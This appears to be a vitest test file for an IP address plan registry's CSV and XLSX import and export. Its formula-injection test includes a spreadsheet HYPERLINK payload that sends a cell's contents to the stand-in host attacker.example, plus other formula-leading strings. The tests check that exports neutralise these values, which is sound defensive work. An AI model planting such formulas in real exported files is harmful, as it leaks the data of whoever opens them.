import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backends, countRows, startTestApp, type TestApp } from '../support/harness.js';

const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

// Rows out of order on purpose: children before parents, as people paste them.
const plan = [
  'vrf,cidr,holder,status,description',
  'public,10.45.1.0/24,450102,allocated,"兴宁区, 城区"',
  'public,10.45.0.0/16,450000,pool,全区公用网络区地址池',
  'public,10.45.0.0/20,450100,allocated,南宁市',
  'internet,2001:db8:45::/48,450000,pool,互联网接入区 IPv6',
  'public,10.45.2.0/24,450100,reserved,=SUM(A1) 2024-01-01 保留',
].join('\r\n');

describe.each(backends)('address plan import and export on %s', (backend) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp(backend);
  });
  afterAll(async () => t?.close());

  it('dry-runs with a verdict per row and writes nothing', async () => {
    const before = await countRows(t, 'prefixes');
    const bad = plan + '\r\npublic,10.45.1.0/24,450103,allocated,重叠\r\npublic,10.45.3.7/24,450100,reserved,\r\npublic,10.46.0.0/24,450102,allocated,无上级';
    const res = await t.call('POST', '/api/v1/prefixes/import?dryRun=true', { raw: bad, headers: { 'content-type': 'text/csv' } });
    expect(res.status).toBe(200);
    const byLine = Object.fromEntries(res.body.rows.map((r: { line: number; ok: boolean; code: string | null }) => [r.line, r.ok ? 'ok' : r.code]));
    expect(byLine).toEqual({ 2: 'ok', 3: 'ok', 4: 'ok', 5: 'ok', 6: 'ok', 7: 'overlap', 8: 'not_canonical', 9: 'outside_parent' });
    expect(await countRows(t, 'prefixes')).toBe(before);
    // The real import of the same file: all rows or none.
    const real = await t.call('POST', '/api/v1/prefixes/import', { raw: bad, headers: { 'content-type': 'text/csv' } });
    expect(real.status).toBe(422);
    expect(real.body.rows).toHaveLength(8);
    expect(await countRows(t, 'prefixes')).toBe(before);
  });

  it('imports in one transaction and exports the same plan, exactly, as CSV and XLSX', async () => {
    const res = await t.call('POST', '/api/v1/prefixes/import', { raw: plan, headers: { 'content-type': 'text/csv' } });
    expect(res.status, res.text).toBe(201);
    expect(res.body.imported).toBe(5);
    const city = await t.call('GET', '/api/v1/prefixes?cidr=10.45.0.0/20&vrf=public');
    expect(city.body.items[0]).toMatchObject({ status: 'allocated', holder: { code: '450100' }, childCount: 2 });

    const csv = await t.call('GET', '/api/v1/prefixes/export?format=csv');
    expect(csv.status).toBe(200);
    const exported = csv.text.trim().split(/\r?\n/);
    expect(exported[0]).toBe('vrf,cidr,holder,status,description');
    // The formula-looking description leaves as text: one apostrophe in front (OWASP CSV injection).
    expect(exported.slice(1).sort()).toEqual(plan.split('\r\n').slice(1).map((line) => line.replace(',=SUM', ",'=SUM")).sort());

    // Round trip through XLSX into a fresh registry gives the same export.
    const file = await t.app.request('/api/v1/prefixes/export?format=xlsx', { headers: { authorization: `Bearer ${t.adminToken}` } });
    expect(file.headers.get('content-type')).toBe(xlsx);
    const bytes = new Uint8Array(await file.arrayBuffer());
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as never);
    const sheetRows = (workbook.worksheets[0].getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1));
    // A formula-looking description stays text, not a formula, and a date stays as typed.
    expect(sheetRows.find((r) => r[1] === '10.45.2.0/24')).toEqual(['public', '10.45.2.0/24', '450100', 'reserved', '=SUM(A1) 2024-01-01 保留']);
    const fresh = await startTestApp(backend);
    try {
      const again = await fresh.call('POST', '/api/v1/prefixes/import', { raw: bytes, headers: { 'content-type': xlsx } });
      expect(again.status, again.text).toBe(201);
      const csv2 = await fresh.call('GET', '/api/v1/prefixes/export?format=csv');
      expect(csv2.text).toBe(csv.text);
    } finally {
      await fresh.close();
    }
  });

  it('exports no live formulas, and imports its own export back exactly, as CSV and as XLSX', async () => {
    const descriptions = [
      '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")',
      '+1+1',
      '-1+1 负一',
      '@SUM(1,1)',
      '＝1+1',
      "'=1+1",
      "'just an apostrophe",
      "''two",
      'plain, with "quotes"',
      '',
    ];
    const source = await startTestApp(backend);
    try {
      const root = await source.call('POST', '/api/v1/prefixes', { body: { cidr: '10.77.0.0/16', holder: '450000', description: descriptions[0] } });
      expect(root.status, root.text).toBe(201);
      for (const [i, description] of descriptions.slice(1).entries()) {
        const child = await source.call('POST', '/api/v1/prefixes', { body: { cidr: `10.77.${i}.0/24`, holder: '450000', status: 'reserved', description } });
        expect(child.status, child.text).toBe(201);
      }
      const original = (await source.call('GET', '/api/v1/prefixes?vrf=public&limit=100')).body.items.map((p: { cidr: string; description: string }) => [p.cidr, p.description]);
      expect(original.map((p: string[]) => p[1]).sort()).toEqual([...descriptions].sort());

      // CSV: no cell begins with a character that makes a spreadsheet read a formula.
      const csv = await source.call('GET', '/api/v1/prefixes/export?format=csv');
      const csvSheet = await new ExcelJS.Workbook().csv.read(Readable.from([Buffer.from(csv.text)]), { map: (v: unknown) => v } as never);
      const csvCells: string[] = [];
      csvSheet.eachRow((row) => row.eachCell((cell) => void csvCells.push(String(cell.value))));
      expect(csvCells).toContain(`'${descriptions[0]}`);
      expect(csvCells).toContain("''just an apostrophe");
      expect(csvCells.filter((c) => /^[=+\-@\t\r\n＝＋－＠]/.test(c))).toEqual([]);

      // XLSX: every cell is a text cell in the Text number format; none is a formula.
      const file = await source.app.request('/api/v1/prefixes/export?format=xlsx', { headers: { authorization: `Bearer ${source.adminToken}` } });
      const bytes = new Uint8Array(await file.arrayBuffer());
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(bytes) as never);
      const xlsxCells: ExcelJS.Cell[] = [];
      workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => void xlsxCells.push(cell)));
      expect(xlsxCells.length).toBe(5 * (descriptions.length + 1));
      for (const cell of xlsxCells) {
        expect(cell.type, String(cell.value)).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        expect(cell.numFmt).toBe('@');
      }
      expect(xlsxCells.map((c) => c.value)).toContain(descriptions[0]);

      // Each export imported into an empty registry restores every description exactly.
      for (const [format, raw, type] of [['csv', csv.text, 'text/csv'], ['xlsx', bytes, xlsx]] as const) {
        const fresh = await startTestApp(backend);
        try {
          const imported = await fresh.call('POST', '/api/v1/prefixes/import', { raw, headers: { 'content-type': type } });
          expect(imported.status, `${format}: ${imported.text}`).toBe(201);
          const again = (await fresh.call('GET', '/api/v1/prefixes?vrf=public&limit=100')).body.items.map((p: { cidr: string; description: string }) => [p.cidr, p.description]);
          expect(again, format).toEqual(original);
        } finally {
          await fresh.close();
        }
      }
    } finally {
      await source.close();
    }
  });

  it('refuses a file without the plan columns, and other content types', async () => {
    const res = await t.call('POST', '/api/v1/prefixes/import', { raw: 'a,b\r\n1,2', headers: { 'content-type': 'text/csv' } });
    expect(res.status).toBe(400);
    expect(res.body.detail).toContain('vrf, cidr, holder, status, description');
    const wrong = await t.call('POST', '/api/v1/prefixes/import', { raw: '<x/>', headers: { 'content-type': 'application/xml' } });
    expect(wrong.status).toBe(415);
    const op = await t.userToken('operator', '450200');
    const pool = await t.call('POST', '/api/v1/prefixes/import', { token: op, raw: 'vrf,cidr,holder,status,description\r\npublic,172.20.0.0/16,450200,pool,x', headers: { 'content-type': 'text/csv' } });
    expect(pool.status).toBe(422);
    expect(pool.body.rows[0].code).toBe('forbidden');
  });
});
